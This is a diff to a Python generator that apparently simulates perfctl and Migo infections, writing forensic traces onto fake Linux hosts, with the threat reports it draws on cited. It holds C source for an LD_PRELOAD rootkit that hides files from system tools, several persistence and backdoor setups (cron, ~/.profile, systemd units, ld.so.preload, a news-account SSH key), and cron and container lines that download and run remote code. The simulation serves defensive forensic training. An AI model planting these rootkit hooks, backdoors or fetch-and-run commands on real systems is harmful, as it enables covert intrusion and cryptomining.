@@ -124,6 +124,30 @@ FILE *fopen(const char *p, const char *m) { static FILE *(*o)(const char *, cons
 int pcap_loop(void *p, int c, void *cb, unsigned char *u) { static int (*o)(void *, int, void *, unsigned char *);
   if (!o) o = dlsym(RTLD_NEXT, "pcap_loop"); return o ? o(p, c, cb, u) : -1; }
 """
+GCWRAP_C = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <dlfcn.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+/* what perfctl's libgcwrap.so hides from every process without AAZHDE set, and the calls it hooks */
+static const char *hidden = "@HIDDEN@";
+static int is_hidden(const char *n) {
+  char buf[256]; if (getenv("AAZHDE")) return 0; strncpy(buf, hidden, sizeof buf - 1); buf[sizeof buf - 1] = 0;
+  for (char *t = strtok(buf, ";"); t; t = strtok(0, ";")) if (strstr(n, t)) return 1; return 0; }
+struct dirent *readdir(DIR *d) { static struct dirent *(*o)(DIR *); if (!o) o = dlsym(RTLD_NEXT, "readdir");
+  struct dirent *e; while ((e = o(d)) && is_hidden(e->d_name)); return e; }
+FILE *fopen(const char *p, const char *m) { static FILE *(*o)(const char *, const char *);
+  if (!o) o = dlsym(RTLD_NEXT, "fopen"); return p && is_hidden(p) ? 0 : o(p, m); }
+int accept(int s, struct sockaddr *a, socklen_t *l) { static int (*o)(int, struct sockaddr *, socklen_t *);
+  if (!o) o = dlsym(RTLD_NEXT, "accept"); (void)"Welcome back, friend."; return o(s, a, l); }
+int pam_authenticate(void *h, int f) { static int (*o)(void *, int); if (!o) o = dlsym(RTLD_NEXT, "pam_authenticate");
+  (void)"/tmp/.xdiag/data/pam"; return o ? o(h, f) : 7; }
+int pcap_loop(void *p, int c, void *cb, unsigned char *u) { static int (*o)(void *, int, void *, unsigned char *);
+  if (!o) o = dlsym(RTLD_NEXT, "pcap_loop"); return o ? o(p, c, cb, u) : -1; }
+"""
 BOT_C = r"""
 #include <stdio.h>
 #include <unistd.h>
@@ -756,3 +780,197 @@ def exfil_curl(h: Host, facts: dict) -> None:
     quiet = rng.random() < 0.35  # `unset HISTFILE` first: only the sudo lines remain
     h.ssh_login(user, ip, t0, 12, commands=(["unset HISTFILE"] if quiet else []) + cmds, history=not quiet)
     h.notes.append(f"exfil by {user} from {ip} at {time.ctime(t0)}: {dest}{' (no history)' if quiet else ''}")
+
+
+@pattern(("web", "ci", "db"), CRON_DISTROS)
+def perfctl(h: Host, facts: dict) -> None:
+    """perfctl: a root-level miner and proxyjacking kit with a userland rootkit. Its installer, kept as
+    /usr/bin/perfcc (/bin/perfcc) and /root/.config/cron/perfcc, is run by a root crontab line
+    `11 * * * * /root/.config/cron/perfcc`, by /etc/cron.d|hourly|daily/perfclean and by a line added to
+    ~/.profile that runs the copy when it is executable and then ~/.bashrc; /lib/libgcwrap.so is listed in
+    /etc/ld.so.preload (it hides .xdiag, .perf.c, perfcc, libgcwrap.so, ld.so.preload, wizlmsh from every
+    dynamically linked tool); a setuid /usr/bin/wizlmsh backdoor; the miner in /tmp/.perf.c (perfctl);
+    state, Tor data and captured PAM logins in /tmp/.xdiag; SHC-built ldd/top/lsof/crontab wrappers that
+    hide it, in a .local/bin put first on PATH; the dropped binaries time-stomped to their neighbours'
+    times. ExaTrack's case also kept SSH access through the `news` account (its key in
+    /var/spool/news/.ssh/authorized_keys, /bin/dash copied to "/usr/sbin/nologin " with a trailing space,
+    that name added to /etc/shells and to news's line in /etc/passwd); done here on some Debian-family hosts.
+    Entry: on Docker hosts through the Docker API (ExaTrack: an exposed Portainer agent proxying it; Trend
+    Micro: an exposed Docker API), a container with the host's / mounted; on other hosts the reports'
+    vectors (RocketMQ, Selenium Grid, PwnKit CVE-2021-4034 for root) leave nothing in the logs we write.
+    Vague in the reports, chosen here: the exact text of the ~/.profile line and of the perfclean cron
+    files, the files inside /tmp/.xdiag, where the wrappers sit (ExaTrack: /bin/.local/bin; Aqua: ~/.local/bin).
+    Aqua Security (Nautilus), "perfctl: A Stealthy Malware Targeting Millions of Linux Servers", 2024,
+    https://www.aquasec.com/blog/perfctl-a-stealthy-malware-targeting-millions-of-linux-servers/;
+    ExaTrack, "Perfctl malware exploiting exposed Portainer agent and using new SSH persistence", 2024,
+    https://blog.exatrack.com/Perfctl-using-portainer-and-new-persistences/ (file names, IOC table, news
+    account); SANS ISC (Xavier Mertens), "From Perfctl to InfoStealer", 2024, https://isc.sans.edu/diary/31334
+    (/tmp/.perf.c/perfctl, /tmp/.xdiag/tordata); Trend Micro, "Attackers Target Exposed Docker Remote API Servers
+    With perfctl Malware", 2024,
+    https://www.trendmicro.com/en_us/research/24/j/attackers-target-exposed-docker-remote-api-servers-with-perfctl-.html"""
+    rng = h.rng
+    ip = public_ip(rng)
+    t0 = h.when(0.5, 4)
+
+    def neighbour(p: str) -> float:  # time-stomping: the dropped file takes a packaged neighbour's times
+        return h.mtimes.get(p) or (os.stat(h.path(p)).st_mtime if h.path(p).exists() else h.created - 200 * DAY)
+
+    if h.kind == "ci":
+        cid = f"{rng.getrandbits(256):064x}"
+        cmd = f"chroot /mnt sh -c 'wget -q -U \"curl/7.74.9\" -O /tmp/httpd http://{ip}/httpd && chmod +x " \
+              "/tmp/httpd && /tmp/httpd'"
+        h.write(f"/var/lib/docker/containers/{cid}/config.v2.json", json.dumps({
+            "ID": cid, "Created": time.strftime("%Y-%m-%dT%H:%M:%S.000000000Z", time.gmtime(t0 - 40)), "Path": "sh",
+            "Args": ["-c", cmd], "Config": {"Image": rng.choice(["ubuntu:22.04", "alpine:latest", "debian:buster"]),
+                                            "Cmd": ["sh", "-c", cmd]},
+            "Name": f"/{rng.choice(['kubeupd', 'KubeUpdate', 'kube-' + format(rng.getrandbits(16), 'x')])}",
+            "State": {"Running": False, "ExitCode": 0}}), 0o600, mtime=t0)
+        h.write(f"/var/lib/docker/containers/{cid}/hostconfig.json", json.dumps({
+            "Binds": ["/:/mnt"], "Privileged": True, "PidMode": "host", "NetworkMode": "host"}), 0o600, mtime=t0 - 40)
+    hidden = ".xdiag;.perf.c;.dmesg;perfctl;perfcc;libgcwrap.so;ld.so.preload;libfsnldev.so;libpprocps.so;wizlmsh"
+    installer = _elf(h, "bot", BOT_C, STRINGS='/tmp/.xdiag/hroot", "/tmp/.perf.c", "/etc/cron.d/perfclean", '
+                     '"/.config/cron/perfcc", "crontab -l|grep -v -e perfcc -e /tmp/.perf;echo \'11 * * * * ", '
+                     '"AAZHDE", "tordata", "hs.txt", "Exploit failed. Target is most likely patched.", "SHELL=pkexec')
+    h.write("/usr/bin/perfcc", installer, 0o755, mtime=neighbour("/usr/bin/ls"))
+    h.write("/root/.config/cron/perfcc", installer, 0o755, mtime=t0 + 25)
+    h.write("/lib/libgcwrap.so", _elf(h, "gcwrap", GCWRAP_C, shared=True, HIDDEN=hidden), 0o755,
+            mtime=neighbour(f"{h.d.libdir}/libkeyutils.so.1"))
+    h.write("/etc/ld.so.preload", "/lib/libgcwrap.so\n", mtime=t0 + 31)
+    h.write("/usr/bin/wizlmsh", _elf(h, "bot", BOT_C, STRINGS='/bin/sh", "-p", "abc185c6a7d34354515a3fc2337a2efe'),
+            0o4755, mtime=neighbour("/usr/bin/id"))
+    h.write("/tmp/.perf.c/perfctl", _elf(h, "miner", MINER_C), 0o755, mtime=t0 + 40)
+    h.write("/tmp/.perf.c/" + rng.choice(["gnome-session-binary", "sh", "httpd"]), installer, 0o755, mtime=t0 + 12)
+    h.write("/tmp/.apid", f"{h.pid(t0)}\n", mtime=t0 + 12)
+    for p, data in (("/tmp/.xdiag/hs.txt", f"{rng.getrandbits(256):056x}"[:56] + ".onion\n"),
+                    ("/tmp/.xdiag/p", f"{h.pid(t0 + 12)}\n"), ("/tmp/.xdiag/tordata/lock", ""),
+                    ("/tmp/.xdiag/tordata/cached-microdescs", rng.randbytes(rng.randrange(4000, 20000))),
+                    ("/tmp/.xdiag/hroot/.hroot", "1\n"),
+                    (f"/tmp/.xdiag/data/pam/{rng.getrandbits(32):08x}", rng.randbytes(rng.randrange(40, 200)))):
+        h.write(p, data, 0o600, mtime=t0 + rng.uniform(15, 3 * 3600))
+    wrappers = rng.choice(["/root/.local/bin", "/bin/.local/bin"])
+    for tool in ("ldd", "top", "lsof", "crontab"):
+        h.write(f"{wrappers}/{tool}", _elf(h, "bot", BOT_C, STRINGS=f'{tool}", "E: neither argv[0] nor $_ works.", '
+                                           f'"perfctl", "grep -v -e perfcc -e libgcwrap'), 0o755, mtime=t0 + 50)
+    profile = h.path("/root/.profile")
+    old = profile.read_text() if profile.exists() else ""
+    h.write("/root/.profile", old + f"export PATH={wrappers}:$PATH\nif [ -x /root/.config/cron/perfcc ]; then "
+            "/root/.config/cron/perfcc > /dev/null 2>&1 & fi; . ~/.bashrc 2>/dev/null\n", owner="root", mtime=t0 + 55)
+    job = "/root/.config/cron/perfcc > /dev/null 2>&1"
+    root_cron = "/var/spool/cron/crontabs/root" if h.d.family == "debian" else "/var/spool/cron/root"
+    old_cron = [x for x in (h.path(root_cron).read_text().splitlines() if h.path(root_cron).exists() else [])
+                if x and not x.startswith("#")]
+    _crontab(h, "root", old_cron + [f"11 * * * * {job}"], t0 + 60)
+    h.write("/etc/cron.d/perfclean", "11 * * * * root /usr/bin/perfcc > /dev/null 2>&1\n", mtime=t0 + 61)
+    h.write(f"/etc/cron.{rng.choice(['hourly', 'daily'])}/perfclean", "#!/bin/bash\n/usr/bin/perfcc > /dev/null "
+            "2>&1\n", 0o755, mtime=t0 + 61)
+    t = t0 + 60
+    while t < h.now:  # the root crontab's run every hour at :11
+        t = (t // 3600 + 1) * 3600 + 11 * 60
+        if t < h.now:
+            h.cron(t + rng.uniform(0.01, 1.2), "root", job)
+    note = ""
+    if h.d.family == "debian" and "news" in h.accounts and rng.random() < 0.5:
+        pub, _ = h.keygen("perfctl-news", "ed25519", comment=rng.choice(["", "root@localhost", "x"]) or None)
+        news = h.accounts["news"]
+        h.write("/var/spool/news/.ssh/authorized_keys", pub + "\n", 0o600, mtime=t0 + 3 * 3600)
+        dash = h.path("/usr/bin/dash")
+        h.write("/usr/sbin/nologin ", dash.read_bytes() if dash.exists() else _elf(h, "bot", BOT_C, STRINGS="dash"),
+                0o755, mtime=t0 + 3 * 3600 + 5)
+        h.write("/etc/shells", "# /etc/shells: valid login shells\n/bin/sh\n/usr/bin/sh\n/bin/bash\n/usr/bin/bash\n"
+                "/bin/rbash\n/usr/bin/rbash\n/bin/dash\n/usr/bin/dash\n/usr/sbin/nologin \n", mtime=t0 + 3 * 3600 + 6)
+        news.shell = "/usr/sbin/nologin "
+        h.touch("/etc/passwd", t0 + 3 * 3600 + 8)
+        for _ in range(rng.randrange(1, 4)):
+            t = rng.uniform(t0 + 5 * 3600, h.now - 600)
+            if t > t0 + 5 * 3600:
+                h.ssh_login("news", rng.choice([ip, public_ip(rng)]), t, rng.uniform(2, 20), key="perfctl-news",
+                            commands=[], history=False)
+        note = ", news account backdoor"
+    h.notes.append(f"perfctl from {ip} at {time.ctime(t0)}, wrappers in {wrappers}{note}")
+
+
+@pattern(("web", "db"), CRON_DISTROS)
+def migo_redis(h: Host, facts: dict) -> None:
+    """Migo: an internet-facing Redis without a password is told over its protocol to drop its safeguards
+    (CONFIG SET protected-mode no, replica-read-only no, aof-rewrite-incremental-fsync no,
+    rdb-save-incremental-fsync no) and to write a cron job that fetches a script from Pastebin; the script
+    takes the main payload from transfer.sh to /tmp/.migo (a UPX-packed Go ELF) and runs it in the
+    background. Migo fetches a modified XMRig from GitHub's CDN, keeps it running with a systemd service
+    and timer, hides it with a user-mode rootkit (libprocesshider) listed in /etc/ld.so.preload, disables
+    SELinux, blocks cloud providers' hosts in /etc/hosts and kills competing miners.
+    Vague in what we could verify, chosen here: how the cron job was written (the usual Redis CONFIG SET
+    dir/dbfilename + SAVE, which leaves a crontab that is an RDB dump; Redis here runs as root, installed
+    by hand), the names of the unit, the miner's folder and the hider (the hider in /usr/local/lib), the
+    cron period and which hosts /etc/hosts blocks.
+    Cado Security, "Migo – a Redis Miner with Novel System Weakening Techniques", 2024,
+    https://www.cadosecurity.com/migo-a-redis-miner-with-novel-system-weakening-techniques/;
+    BleepingComputer, "New Migo malware disables protection features on Redis servers", 2024,
+    https://www.bleepingcomputer.com/news/security/new-migo-malware-disables-protection-features-on-redis-servers/
+    (its summary of Cado's findings is what the traces above were checked against)."""
+    rng = h.rng
+    ip = public_ip(rng)
+    t0 = h.when(0.5, 4)
+    installed = h.created + rng.uniform(0.05, 0.6) * (t0 - h.created)
+    # the Redis the operator exposed: built from source, bound to every address, no password, run as root
+    h.write("/usr/local/bin/redis-server", _elf(h, "bot", BOT_C, STRINGS='redis_version:7.0.15", "protected-mode", '
+                                                '"replica-read-only", "Redis is starting'), 0o755, mtime=installed)
+    h.write("/etc/redis/redis.conf", "bind 0.0.0.0\nport 6379\nprotected-mode no\ndaemonize no\nsupervised systemd\n"
+            "dir /var/lib/redis\ndbfilename dump.rdb\nlogfile /var/log/redis/redis.log\nmaxmemory 512mb\n"
+            "maxmemory-policy allkeys-lru\n", mtime=installed + 60)
+    h.write("/etc/systemd/system/redis.service", "[Unit]\nDescription=Redis\nAfter=network.target\n\n[Service]\n"
+            "ExecStart=/usr/local/bin/redis-server /etc/redis/redis.conf\nRestart=always\nType=notify\n\n[Install]\n"
+            "WantedBy=multi-user.target\n", mtime=installed + 90)
+    h.symlink("/etc/systemd/system/multi-user.target.wants/redis.service", "/etc/systemd/system/redis.service",
+              mtime=installed + 95)
+    rdb_head = b"REDIS0010\xfa\tredis-ver\x067.0.15\xfa\nredis-bits\xc0@\xfa\x05ctime\xc2" + \
+        int(t0).to_bytes(4, "little") + b"\xfa\bused-mem\xc2" + rng.randbytes(4) + b"\xfe\x00\xfb\x01\x00\x00"
+    h.write("/var/lib/redis/dump.rdb", rdb_head + rng.randbytes(rng.randrange(200, 4000)),
+            mtime=t0 - rng.uniform(60, 3600))  # later saves go where CONFIG SET dir pointed
+    paste = "".join(rng.choice("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(8))
+    period = rng.choice([15, 30, 60])
+    loader = f"curl -fsSL https://pastebin.com/raw/{paste} | sh"
+    if h.d.family == "debian":
+        cron_path, line = f"/etc/cron.d/{rng.choice(['x', 'backup1', 'sysupd'])}", f"*/{period} * * * * root {loader}"
+    else:
+        cron_path, line = "/var/spool/cron/root", f"*/{period} * * * * {loader}"
+    key = rng.choice(["x", "backup1", "1", "crackit"])
+    value = f"\n\n{line}\n\n".encode()
+    size = bytes([0x40 | len(value) >> 8, len(value) & 0xff])  # RDB 14-bit string length
+    h.write(cron_path, rdb_head + bytes([0, len(key)]) + key.encode() + size + value + b"\xff" + rng.randbytes(8),
+            0o644, mtime=t0)
+    h.write("/var/log/redis/redis.log", "".join(
+        f"{h.pid(installed)}:M {time.strftime('%d %b %Y %H:%M:%S', time.gmtime(tt))}.{rng.randrange(100, 999)} "
+        f"{msg}\n" for tt, msg in ((installed + 100, "* Server initialized"), (installed + 100, "* Ready to accept "
+                                                                                "connections tcp"),
+                                   (t0, "* DB saved on disk"))), mtime=t0)
+    _every(h, t0, period, "root", loader)
+    t1 = (t0 // (period * 60) + 1) * period * 60 + 2
+    h.write("/tmp/.migo", _elf(h, "bot", BOT_C, STRINGS='transfer.sh", "/etc/ld.so.preload", "setenforce 0", '
+                               '"systemctl enable", "xmrig", "aliyun-service", "/etc/hosts", "protected-mode'),
+            0o755, mtime=t1 + 5)
+    work = rng.choice(["/tmp/.migo_worker", "/tmp/.migo_w"])
+    miner = f"{work}/{rng.choice(['.migo_worker', 'xmrig'])}"
+    h.write(miner, _elf(h, "miner", MINER_C), 0o755, mtime=t1 + 30)
+    h.write(f"{work}/.migo_json", json.dumps({"autosave": True, "cpu": {"enabled": True}, "donate-level": 0,
+                                              "pools": [{"url": _pool(h), "user": _wallet(h), "tls": True}]}),
+            mtime=t1 + 31)
+    unit = rng.choice(["system-kernel", "kernel-update", "systemd-sysupd"])
+    h.write(f"/etc/systemd/system/{unit}.service", f"[Unit]\nDescription=System kernel service\n\n[Service]\n"
+            f"ExecStart={miner} -c {work}/.migo_json\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
+            mtime=t1 + 40)
+    h.write(f"/etc/systemd/system/{unit}.timer", f"[Unit]\nDescription=System kernel timer\n\n[Timer]\nOnBootSec=5\n"
+            f"OnUnitActiveSec=5\nUnit={unit}.service\n\n[Install]\nWantedBy=timers.target\n", mtime=t1 + 41)
+    h.symlink(f"/etc/systemd/system/timers.target.wants/{unit}.timer", f"/etc/systemd/system/{unit}.timer",
+              mtime=t1 + 42)
+    h.log(t1 + 43, "systemd", f"Started {unit}.timer - System kernel timer.", 1, stream="syslog")
+    h.log(t1 + 48, "systemd", f"Started {unit}.service - System kernel service.", 1, stream="syslog")
+    so = rng.choice(["/usr/local/lib/libsystemd.so", "/usr/local/lib/libkernel.so"])
+    h.write(so, _elf(h, "hider", HIDER_C, shared=True, NAME=os.path.basename(miner)), mtime=t1 + 50)
+    h.write("/etc/ld.so.preload", so + "\n", mtime=t1 + 51)
+    if h.path("/etc/selinux/config").exists() or h.d.family == "rhel":
+        h.write("/etc/selinux/config", "SELINUX=disabled\nSELINUXTYPE=targeted\n", mtime=t1 + 55)
+    hosts = h.path("/etc/hosts").read_text() if h.path("/etc/hosts").exists() else ""
+    h.write("/etc/hosts", hosts + "".join(f"127.0.0.1 {d}\n" for d in ("update.aegis.aliyun.com",
+                                                                        "jsrv.aegis.aliyun.com",
+                                                                        "update2.aegis.aliyun.com")), mtime=t1 + 57)
+    h.notes.append(f"migo via redis from {ip} at {time.ctime(t0)}: {cron_path}, {unit}.timer, {so}")
